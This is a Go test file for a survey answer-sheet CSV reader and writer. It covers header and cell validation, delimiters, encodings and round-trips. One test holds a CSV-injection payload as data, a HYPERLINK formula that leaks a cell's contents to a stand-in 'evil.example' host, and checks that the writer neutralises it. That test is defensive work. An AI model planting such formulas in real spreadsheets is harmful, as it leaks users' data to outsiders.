package answersheet_test

import (
	"bytes"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/assessbot/assessbot/internal/answersheet"
	"github.com/assessbot/assessbot/internal/assessment"
	"github.com/assessbot/assessbot/internal/framework"
)

// sheetYAML has one question of each kind a sheet can hold: yes/no, an
// ordered scale with "not sure", a scale without it, and open text.
const sheetYAML = `
id: sheet
title: Sheet
scales:
  level:
    options:
      - {id: low, label: Low}
      - {id: mid, label: Middle}
      - {id: high, label: High}
  strict:
    not_sure: false
    options:
      - {id: disagree, label: Disagree}
      - {id: agree, label: Agree}
sections:
  - id: one
    title: One
    questions:
      - {id: yn, text: "Yes or no?", scale: yesno}
      - {id: level, text: "How well?", scale: level}
  - id: two
    title: Two
    questions:
      - {id: strict, text: "Agree?", scale: strict}
      - {id: notes, text: "Anything else?", scale: text}
`

func sheetFramework(t *testing.T) *assessment.Framework {
	t.Helper()
	f, err := framework.Parse("sheet.yaml", []byte(sheetYAML))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func answers(kv ...string) map[string]assessment.Answer {
	m := map[string]assessment.Answer{}
	for i := 0; i+1 < len(kv); i += 2 {
		if kv[i] == "notes" {
			m[kv[i]] = assessment.Answer{Text: kv[i+1]}
		} else {
			m[kv[i]] = assessment.Answer{Option: kv[i+1]}
		}
	}
	return m
}

func TestReadGood(t *testing.T) {
	f := sheetFramework(t)
	long := strings.Repeat("x", assessment.MaxTextAnswer)   // exactly at the limit
	sheet := "\ufeffRespondent, yn ,level,strict,notes\n" + // BOM from a spreadsheet, header case and spaces
		"ana,yes,High,agree,Plain text\n" +
		"\n" +
		"ben,NO,mid,Disagree,\n" +
		"cai,not sure,NOT_SURE,,\"Commas, \"\"quotes\"\"\nand a newline\"\n" +
		"   \n" +
		"dee,?,  low ,AGREE," + long + "\n" +
		"eve,Yes,,,\n" +
		"# a comment line, as the template writes\n" +
		"fay,,,,\n" + // nothing answered at all
		"gus,no,MIDDLE,agree,not sure\n" // "not sure" is plain text for a text question
	got, err := answersheet.Read(strings.NewReader(sheet), f)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	want := []assessment.Response{
		{Respondent: "ana", Submitted: true, Answers: answers("yn", "yes", "level", "high", "strict", "agree", "notes", "Plain text")},
		{Respondent: "ben", Submitted: true, Answers: answers("yn", "no", "level", "mid", "strict", "disagree")},
		{Respondent: "cai", Submitted: true, Answers: answers("yn", assessment.NotSure, "level", assessment.NotSure, "notes", "Commas, \"quotes\"\nand a newline")},
		{Respondent: "dee", Submitted: true, Answers: answers("yn", assessment.NotSure, "level", "low", "strict", "agree", "notes", long)},
		{Respondent: "eve", Submitted: true, Answers: answers("yn", "yes")},
		{Respondent: "fay", Submitted: true, Answers: answers()},
		{Respondent: "gus", Submitted: true, Answers: answers("yn", "no", "level", "mid", "strict", "agree", "notes", "not sure")},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Read =\n%s\nwant\n%s", dump(got), dump(want))
	}
}

func dump(rs []assessment.Response) string {
	var b strings.Builder
	for _, r := range rs {
		fmt.Fprintf(&b, "  %q submitted=%v %v\n", r.Respondent, r.Submitted, r.Answers)
	}
	return b.String()
}

// TestReadErrors: each bad sheet is refused as a whole, and the message
// names the row (the line in the file) and the column.
func TestReadErrors(t *testing.T) {
	tooLong := strings.Repeat("é", 2001) // 4002 bytes: the limit counts bytes, as CheckAnswer does
	tests := []struct {
		name, sheet string
		want        []string
	}{
		{"empty file", "",
			[]string{`row 1: the file is empty; the first row must be: respondent,<question id>,...`}},
		{"wrong first column", "name,yn\nana,yes\n",
			[]string{`row 1: the first column must be "respondent"`}},
		{"unknown column", "respondent,yn,nope\nana,yes,\n",
			[]string{`row 1, column "nope": no question "nope" in framework sheet`}},
		{"duplicate column", "respondent,yn,level,yn\nana,yes,low,yes\n",
			[]string{`row 1, column "yn": column given twice`}},
		{"every header problem at once", "who,nope,yn,yn\n",
			[]string{
				`row 1: the first column must be "respondent"`,
				`row 1, column "nope": no question "nope" in framework sheet`,
				`row 1, column "yn": column given twice`,
			}},
		{"unknown option", "respondent,yn,level\nana,yes,high\nben,maybe,low\n",
			[]string{`row 3, column "yn": unknown option "maybe" (use one of: no, yes, not sure, or leave empty)`}},
		{"unknown option on a scale", "respondent,level\nana,great\n",
			[]string{`row 2, column "level": unknown option "great" (use one of: low, mid, high, not sure, or leave empty)`}},
		{"row is the line, after blank lines and a cell over two lines", "respondent,notes,yn\nana,\"two\nlines\",yes\n\nben,,maybe\n",
			[]string{`row 5, column "yn": unknown option "maybe" (use one of: no, yes, not sure, or leave empty)`}},
		{"duplicate respondent", "respondent,yn\nana,yes\nben,no\nana,no\n",
			[]string{`row 4, column "respondent": respondent "ana" is also on row 2`}},
		{"empty respondent", "respondent,yn\nana,yes\n  ,yes\n",
			[]string{`row 3, column "respondent": empty respondent`}},
		{"too many cells", "respondent,yn\nana,yes,extra\n",
			[]string{`row 2: 3 cells but the header has 2 columns`}},
		{"text too long", "respondent,notes\nana," + tooLong + "\n",
			[]string{`row 2, column "notes": text is 4002 characters; at most 4000`}},
		{"not sure without a not sure option", "respondent,strict\nana,agree\nben,not sure\ncai,?\n",
			[]string{
				`row 3, column "strict": this question has no "not sure" option`,
				`row 4, column "strict": this question has no "not sure" option`,
			}},
		{"CSV syntax: bare quote", "respondent,yn\nana,yes\nben,ye\"s\n",
			[]string{`row 3: CSV syntax: bare " in non-quoted-field`}},
		{"CSV syntax in the header", "respondent,y\"n\nana,yes\n",
			[]string{`row 1: CSV syntax: bare " in non-quoted-field`}},
		{"CSV syntax: unclosed quote, reported on the row where it opens", "respondent,notes\nana,ok\nben,\"never closed\ncai,yes\n",
			[]string{`row 3: CSV syntax: extraneous or missing " in quoted-field`}},
		{"problems in several rows", "respondent,yn,level\nana,yes,high\n,maybe,low\nben,no,top\nben,yes\n",
			[]string{
				`row 3, column "respondent": empty respondent`,
				`row 3, column "yn": unknown option "maybe" (use one of: no, yes, not sure, or leave empty)`,
				`row 4, column "level": unknown option "top" (use one of: low, mid, high, not sure, or leave empty)`,
				`row 5, column "level": the row ends before this column: 2 cells but the header has 3 columns (an empty answer still needs its comma)`,
				`row 5, column "respondent": respondent "ben" is also on row 4`,
			}},
		{"short row", "respondent,yn,level,notes\nana,yes\nben,yes,low,\n",
			[]string{`row 2, column "level": the row ends before this column: 2 cells but the header has 4 columns (an empty answer still needs its comma)`}},
		{"short row, semicolons", "respondent;yn;level\nana;yes\n",
			[]string{`row 2, column "level": the row ends before this column: 2 cells but the header has 3 columns (an empty answer still needs its semicolon)`}},
		{"a long bad cell is cut", "respondent,yn\nana," + strings.Repeat("y", 10_000) + "\n",
			[]string{`row 2, column "yn": unknown option "` + strings.Repeat("y", 60) + `…" (use one of: no, yes, not sure, or leave empty)`}},
		{"a long bad column is cut", "respondent," + strings.Repeat("é", 100) + "\n",
			[]string{`row 1, column "` + strings.Repeat("é", 60) + `…": no question "` + strings.Repeat("é", 60) + `…" in framework sheet`}},
		{"a long duplicate respondent is cut", "respondent,yn\n" + strings.Repeat("r", 70) + ",yes\n" + strings.Repeat("r", 70) + ",no\n",
			[]string{`row 3, column "respondent": respondent "` + strings.Repeat("r", 60) + `…" is also on row 2`}},
		{"binary", "PK\x03\x04\x14\x00\x06\x00respondent",
			[]string{`row 1: the file is not text (a NUL byte at offset 5): save the sheet as CSV UTF-8 (comma-separated), not as a workbook`}},
		{"UTF-16", "\xff\xfer\x00e\x00s\x00",
			[]string{`row 1: the file is UTF-16 text; save it as CSV UTF-8 (comma-separated)`}},
		{"Latin-1", "respondent,notes\nana,caf\xe9\n",
			[]string{`row 2: the file is not UTF-8 text (byte 0xe9 at offset 24): save the sheet as CSV UTF-8`}},
		{"one column that holds the delimiters", "respondent|yn|level\nana|yes|low\n",
			[]string{`row 1: the first column must be "respondent"`}},
		{"header after comments", "# fill in\n# one row each\nwho,yn\n",
			[]string{`row 3: the first column must be "respondent"`}},
	}
	f := sheetFramework(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := answersheet.Read(strings.NewReader(tt.sheet), f)
			if got != nil {
				t.Errorf("Read returned %d responses from a bad sheet; want none", len(got))
			}
			var se *answersheet.Error
			if !errors.As(err, &se) {
				t.Fatalf("err = %v (%T), want *answersheet.Error", err, err)
			}
			if want := strings.Join(tt.want, "\n"); err.Error() != want {
				t.Errorf("err =\n%s\nwant\n%s", err, want)
			}
		})
	}
}

// TestReadDelimiters: spreadsheets in many locales save "CSV" with
// semicolons, and some export tabs; the header says which.
func TestReadDelimiters(t *testing.T) {
	f := sheetFramework(t)
	want := []assessment.Response{
		{Respondent: "ana", Submitted: true, Answers: answers("yn", "yes", "level", "high", "notes", "a, b; c")},
		{Respondent: "ben", Submitted: true, Answers: answers("yn", "no")},
	}
	for name, sheet := range map[string]string{
		"comma":                       "respondent,yn,level,notes\nana,yes,high,\"a, b; c\"\nben,no,,\n",
		"semicolon":                   "respondent;yn;level;notes\nana;yes;high;a, b; c\nben;no;;\n",
		"semicolon with quoted ones":  "\ufeffrespondent;yn;level;\"notes\"\nana;yes;high;\"a, b; c\"\nben;no;;\n",
		"tab":                         "respondent\tyn\tlevel\tnotes\nana\tyes\thigh\ta, b; c\nben\tno\t\t\n",
		"after a comment with commas": "# respondent, then, one, column, per, question\nrespondent;yn;level;notes\nana;yes;high;\"a, b; c\"\nben;no;;\n",
	} {
		t.Run(name, func(t *testing.T) {
			got, err := answersheet.Read(strings.NewReader(sheet), f)
			if name == "semicolon" {
				// An unquoted semicolon in a cell is a delimiter.
				if err == nil || !strings.Contains(err.Error(), "5 cells but the header has 4 columns") {
					t.Fatalf("Read = %v, want too many cells", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("Read =\n%s\nwant\n%s", dump(got), dump(want))
			}
		})
	}
}

// TestScan: rows come one at a time, and the count is of respondent rows.
func TestScan(t *testing.T) {
	f := sheetFramework(t)
	var who []string
	n, err := answersheet.Scan(strings.NewReader("respondent,yn\n# a comment\nana,yes\n\nben,\n"), f, func(r assessment.Response) {
		who = append(who, r.Respondent)
	})
	if err != nil || n != 2 || strings.Join(who, " ") != "ana ben" {
		t.Errorf("Scan = %d, %v; respondents %q", n, err, who)
	}
	n, err = answersheet.Scan(strings.NewReader("respondent,yn\n"), f, func(assessment.Response) { t.Error("a header alone has no rows") })
	if err != nil || n != 0 {
		t.Errorf("Scan of a header alone = %d, %v; want 0, nil", n, err)
	}
	// A bad row stops the calls: what fn was given is to be thrown away,
	// but nothing after the first problem reaches it.
	var calls int
	_, err = answersheet.Scan(strings.NewReader("respondent,yn\nana,yes\nben,maybe\ncai,no\n"), f, func(assessment.Response) { calls++ })
	if err == nil || calls != 1 {
		t.Errorf("Scan of a bad sheet: %d calls, err %v; want 1 call and an error", calls, err)
	}
}

// TestReadProblemCap: a sheet for the wrong framework lists 50 problems,
// not one per cell.
func TestReadProblemCap(t *testing.T) {
	var b strings.Builder
	b.WriteString("respondent,yn,level\n")
	for i := range 60 {
		fmt.Fprintf(&b, "r%d,maybe,great\n", i)
	}
	_, err := answersheet.Read(strings.NewReader(b.String()), sheetFramework(t))
	var se *answersheet.Error
	if !errors.As(err, &se) {
		t.Fatalf("err = %v, want *answersheet.Error", err)
	}
	if len(se.Problems) != 50 || se.Omitted != 70 {
		t.Fatalf("%d problems and %d omitted, want 50 and 70", len(se.Problems), se.Omitted)
	}
	if !strings.HasSuffix(err.Error(), "\n… and 70 more problems") {
		t.Errorf("the error does not say how many more: …%s", err.Error()[len(err.Error())-60:])
	}
	first, last := se.Problems[0], se.Problems[49]
	if first.Row != 2 || first.Column != "yn" || last.Row != 26 || last.Column != "level" {
		t.Errorf("first problem %+v, last %+v; want row 2 yn .. row 26 level", first, last)
	}
}

// TestWriteRead: what Write writes, Read reads back the same, with
// respondents numbered in order and text that needs CSV quoting intact.
func TestWriteRead(t *testing.T) {
	f := sheetFramework(t)
	in := []assessment.Response{
		{Respondent: "U1", Answers: map[string]assessment.Answer{
			"yn":     {Option: "yes"},
			"level":  {Option: "high"},
			"strict": {Option: "agree"},
			"notes":  {Text: `Onboarding is good, renewals "less so"` + "\nSecond line, with a comma"},
		}},
		{Respondent: "U2", Submitted: true, Answers: map[string]assessment.Answer{
			"yn":    {Option: assessment.NotSure},
			"notes": {Text: `"quoted from start to end"`},
		}},
		{Respondent: "U3", Answers: map[string]assessment.Answer{
			"level": {Option: "low"},
		}},
	}
	var buf bytes.Buffer
	if err := answersheet.Write(&buf, f, in); err != nil {
		t.Fatal(err)
	}
	const wantCSV = "respondent,yn,level,strict,notes\n" +
		"1,yes,high,agree,\"Onboarding is good, renewals \"\"less so\"\"\nSecond line, with a comma\"\n" +
		"2,not_sure,,,\"\"\"quoted from start to end\"\"\"\n" +
		"3,,low,,\n"
	if got := buf.String(); got != wantCSV {
		t.Errorf("Write =\n%s\nwant\n%s", got, wantCSV)
	}
	out, err := answersheet.Read(&buf, f)
	if err != nil {
		t.Fatalf("Read(Write(...)): %v", err)
	}
	if len(out) != len(in) {
		t.Fatalf("read %d responses, wrote %d", len(out), len(in))
	}
	for i := range in {
		if want := fmt.Sprint(i + 1); out[i].Respondent != want {
			t.Errorf("respondent %d = %q, want %q (never the user id)", i, out[i].Respondent, want)
		}
		if !reflect.DeepEqual(out[i].Answers, in[i].Answers) {
			t.Errorf("respondent %d answers = %v, want %v", i+1, out[i].Answers, in[i].Answers)
		}
	}
}

// TestWriteEmpty: no responses is a header alone, which reads as none.
func TestWriteEmpty(t *testing.T) {
	f := sheetFramework(t)
	var buf bytes.Buffer
	if err := answersheet.Write(&buf, f, nil); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "respondent,yn,level,strict,notes\n" {
		t.Errorf("Write(nil) = %q", got)
	}
	out, err := answersheet.Read(&buf, f)
	if err != nil || len(out) != 0 {
		t.Errorf("Read = %v, %v; want no responses", out, err)
	}
}

// A text answer that a spreadsheet would run as a formula is written with
// a quote before it (the OWASP rule), and reads back as it was typed.
func TestWriteNeutralisesFormulas(t *testing.T) {
	f := sheetFramework(t)
	texts := []string{`=HYPERLINK("https://evil.example/?leak="&A1,"click")`, "+1", "-3", "@SUM(A1)", "'=typed with a quote", "plain"}
	var in []assessment.Response
	for _, s := range texts {
		in = append(in, assessment.Response{Answers: map[string]assessment.Answer{"notes": {Text: s}}})
	}
	var buf bytes.Buffer
	if err := answersheet.Write(&buf, f, in); err != nil {
		t.Fatal(err)
	}
	written := buf.String()
	for _, want := range []string{`'=HYPERLINK(""https://`, ",'+1\n", ",'-3\n", ",'@SUM(A1)\n", ",''=typed with a quote\n", ",plain\n"} {
		if !strings.Contains(written, want) {
			t.Errorf("the sheet lacks %q:\n%s", want, written)
		}
	}
	out, err := answersheet.Read(&buf, f)
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range texts {
		if got := out[i].Answers["notes"].Text; got != s {
			t.Errorf("text %d read back as %q, want %q", i, got, s)
		}
	}
}
